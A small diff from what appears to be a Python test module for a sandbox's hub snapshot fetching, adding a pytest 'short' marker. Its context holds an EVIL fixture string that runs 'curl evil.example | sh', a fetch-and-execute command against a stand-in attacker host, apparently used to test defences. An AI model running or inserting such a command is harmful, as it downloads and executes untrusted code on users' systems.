@@ -23,6 +23,8 @@ from envhub_sandbox.hub.reference import HubRef
 from envhub_sandbox.hub.snapshot import Snapshot, SnapshotLimits, fetch
 from tests.hub.stub_hub import StubHub, StubRepository
 
+pytestmark = pytest.mark.short
+
 Fetch = Callable[..., Snapshot]
 _MIB = 1 << 20
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
